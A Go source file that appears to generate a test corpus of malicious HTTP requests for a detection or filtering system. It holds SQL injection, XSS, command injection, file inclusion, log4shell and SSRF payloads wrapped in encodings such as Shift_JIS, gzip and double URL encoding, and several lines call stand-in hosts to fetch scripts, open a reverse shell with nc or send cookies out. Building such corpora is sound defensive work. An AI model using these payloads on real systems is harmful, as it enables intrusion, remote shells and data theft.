package corpora

import (
	"net/url"
	"strings"

	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/width"
)

// An attack family with payloads that work by themselves in a parameter.
var payloads = []struct {
	family string
	texts  []string
}{
	{"sqli", []string{"1' UNION SELECT name,pass FROM users-- -", "admin' OR '1'='1", "1; DROP TABLE users", "1 AND SLEEP(5)", "' OR 1=1#", "1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -", "-1 UNION ALL SELECT NULL,NULL,version()--", "x') OR ('a'='a", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "'; EXEC xp_cmdshell('dir')--", "1' WAITFOR DELAY '0:0:5'--", "1 or pg_sleep(5)--"}},
	{"xss", []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `"><svg onload=alert(document.cookie)>`, `" onmouseover="alert(1)`, "<iframe src=javascript:alert(1)>", "javascript:alert(document.domain)", "<body onload=fetch('//a.example/'+document.cookie)>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>", "<details open ontoggle=alert(1)>", "';alert(String.fromCharCode(88))//"}},
	{"rce", []string{"127.0.0.1;cat /etc/passwd", "| id", "`whoami`", "$(curl http://198.51.100.9/a.sh)", "&& wget http://198.51.100.9/x -O /tmp/x", ";cat${IFS}/etc/hosts", "() { :; }; /bin/bash -c 'id'", "| powershell -c whoami", "& net user hacker /add", "; nc -e /bin/sh 198.51.100.9 4444"}},
	{"lfi", []string{"../../../../etc/passwd", "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index", "file:///etc/passwd", "../../wp-config.php"}},
	{"rfi", []string{"http://198.51.100.9/shell.txt", "https://attacker.example/c99.php?", "ftp://203.0.113.5/a.txt", "http://[2001:db8::1]/x"}},
	{"php", []string{"<?php system($_GET['c']); ?>", "<?= `id` ?>", "eval(base64_decode('cGhwaW5mbygp'));", `O:8:"Evil_Obj":1:{s:4:"data";s:2:"id";}`, "phpinfo();", "assert($_POST['x'])"}},
	{"java", []string{"${jndi:ldap://198.51.100.9/a}", "${${lower:j}ndi:rmi://a.example/x}", "java.lang.Runtime.getRuntime().exec('id')", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"}},
	{"node", []string{"require('child_process').execSync('id')", "{\"__proto__\":{\"admin\":true}}", "constructor.constructor('return process')()", "_$$ND_FUNC$$_function(){return 1}()"}},
	{"ssrf", []string{"http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO"}},
	{"response splitting", []string{"ja\r\nSet-Cookie: a=b", "x\r\nLocation: https://attacker.example/"}},
}

// A carrier puts a payload into a request; a nil Raw says that it cannot carry this one.
type carrier struct {
	name string
	make func(s speaker, family, payload string) Request
}

var carriers = []carrier{
	{"query", func(s speaker, f, p string) Request {
		return build(f+" in the query", "GET", "/search?page=1&q="+url.QueryEscape(p), nil, "", nil)
	}},
	{"form", func(s speaker, f, p string) Request {
		return build(f+" in a form", "POST", "/contact", nil, formType, form("name", s.family(), "id", p))
	}},
	{"japanese text", func(s speaker, f, p string) Request {
		if !embeds(f) {
			p = s.sentence() + "\r\n" + p
		} else {
			p = s.sentence() + p + s.sentence()
		}
		return build(f+" inside Japanese", "POST", "/contact", nil, formType, form("name", s.family(), "message", p))
	}},
	{"shift_jis", func(s speaker, f, p string) Request {
		return build(f+" in Shift_JIS", "POST", "/cgi-bin/mail.cgi", nil, formType, encoded(japanese.ShiftJIS, "name", s.family(), "body", p))
	}},
	{"euc-jp", func(s speaker, f, p string) Request {
		return build(f+" in EUC-JP", "POST", "/cgi-bin/mail.cgi", nil, formType+"; charset=EUC-JP", encoded(japanese.EUCJP, "name", s.family(), "body", p))
	}},
	{"json", func(s speaker, f, p string) Request {
		return build(f+" in JSON", "POST", "/api/items", nil, jsonType, []byte(`{"name":`+quote(s.family())+`,"a":{"b":[`+jsonString(p)+`]}}`))
	}},
	{"text beacon", func(s speaker, f, p string) Request {
		return build(f+" in a beacon", "POST", "/collect", nil, "text/plain;charset=UTF-8", []byte(`{"e":`+jsonString(p)+`}`))
	}},
	{"multipart", func(s speaker, f, p string) Request {
		return build(f+" in multipart", "POST", "/upload", nil, "multipart/form-data; boundary="+boundary, multipart("title", s.family(), "memo", p))
	}},
	{"xml", func(s speaker, f, p string) Request {
		return build(f+" in XML", "POST", "/soap", nil, "text/xml; charset=utf-8", []byte(`<?xml version="1.0"?><r><name>`+s.family()+`</name><v>`+xmlText(p)+`</v></r>`))
	}},
	{"xml attribute", func(s speaker, f, p string) Request {
		return build(f+" in an XML attribute", "POST", "/soap", nil, "application/xml", []byte(`<?xml version="1.0"?><r v="`+xmlText(p)+`"/>`))
	}},
	{"gzip", func(s speaker, f, p string) Request {
		return build(f+" in gzip", "POST", "/api", []string{"Content-Encoding", "gzip"}, jsonType, zipped(`{"v":`+jsonString(p)+`}`))
	}},
	{"protobuf", func(s speaker, f, p string) Request {
		return build(f+" in protobuf", "POST", "/pb", nil, "application/x-protobuf", append([]byte{0x0a, byte(len(p)), 0x00}, append([]byte(p), 0x00, 0x01)...))
	}},
	{"cookie", func(s speaker, f, p string) Request {
		return build(f+" in a cookie", "GET", "/", []string{"Cookie", "lang=" + url.QueryEscape(p)}, "", nil)
	}},
	{"twice encoded", func(s speaker, f, p string) Request {
		return build(f+" twice encoded", "GET", "/search?q="+url.QueryEscape(url.QueryEscape(p)), nil, "", nil)
	}},
	{"full width", func(s speaker, f, p string) Request {
		return build(f+" in full width", "POST", "/contact", nil, formType, form("message", width.Widen.String(p)))
	}},
}

// embeds reports whether a payload of the family works in the middle of other text; others need a line of their own.
func embeds(family string) bool {
	return family == "xss" || family == "php" || family == "java" || family == "sqli"
}

// carries reports whether a payload of the family would do harm in a carrier.
func carries(carrier, family, payload string) bool {
	switch carrier {
	case "full width":
		return family == "sqli" || family == "xss" || family == "rce"
	case "twice encoded":
		return family == "xss" || family == "lfi" || family == "sqli"
	case "cookie":
		return family == "sqli" || family == "java" || family == "php"
	case "japanese text":
		return embeds(family) || family == "rce"
	case "xml", "xml attribute", "json", "gzip", "text beacon", "protobuf", "shift_jis", "euc-jp", "multipart":
		return family != "response splitting"
	}
	return true
}

// Attacks returns each payload in each carrier that it works in, some times over with other words around it, and attacks
// that are a request of their own.
func Attacks(seed uint64) []Request {
	s := newSpeaker(seed)
	var requests []Request
	for range 2 {
		for _, p := range payloads {
			for _, text := range p.texts {
				for _, c := range carriers {
					if carries(c.name, p.family, text) {
						requests = append(requests, c.make(s, p.family, text))
					}
				}
			}
		}
	}
	return append(requests, ownRequests()...)
}

func ownRequests() []Request {
	const attacker = "https://attacker.example/"
	return []Request{
		build("scanner", "GET", "/", []string{"User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"}, "", nil),
		build("scanner", "GET", "/", []string{"User-Agent", "Nikto/2.5.0"}, "", nil),
		build("restricted file", "GET", "/.git/config", nil, "", nil),
		build("restricted file", "GET", "/.env", nil, "", nil),
		build("restricted file", "GET", "/wp-config.php.bak", nil, "", nil),
		build("restricted file", "GET", "/backup/dump.sql", nil, "", nil),
		build("traversal in the path", "GET", "/static/..%2f..%2f..%2fetc/passwd", nil, "", nil),
		build("method", "TRACE", "/", nil, "", nil),
		build("session fixation", "GET", "/?PHPSESSID=abcdef0123456789", []string{"Referer", attacker}, "", nil),
		build("shellshock in a header", "GET", "/cgi-bin/a.cgi", []string{"X-A", "() { :; }; /bin/bash -c id"}, "", nil),
		build("log4shell in a header", "GET", "/", []string{"X-Api-Version", "${jndi:ldap://198.51.100.9/a}"}, "", nil),
		build("xss in the referer", "GET", "/", []string{"Referer", "https://a.example/?<script>alert(1)</script>"}, "", nil),
		build("uploaded program", "POST", "/upload", nil, "multipart/form-data; boundary="+boundary, multipart("file/a.php", "<?php system($_GET[1]);")),
		build("uploaded program", "POST", "/upload", nil, "multipart/form-data; boundary="+boundary, multipart("file/a.jsp", "<% Runtime.getRuntime(); %>")),
		build("null in the path", "GET", "/view?file=a.pdf%00.php", nil, "", nil),
		build("nosql", "POST", "/login", nil, jsonType, []byte(`{"user":"admin","pass":{"$ne":null}}`)),
		build("nosql", "GET", "/login?user=admin&pass[$ne]=1", nil, "", nil),
		build("opaque encoding", "POST", "/api", []string{"Content-Encoding", "br"}, jsonType, []byte("xxxx")),
		build("utf-7", "POST", "/a", nil, formType+"; charset=utf-7", []byte("a=+ADw-script+AD4-alert(1)")),
	}
}

func jsonString(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\r", `\r`, "\n", `\n`).Replace(s) + `"`
}

func xmlText(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}
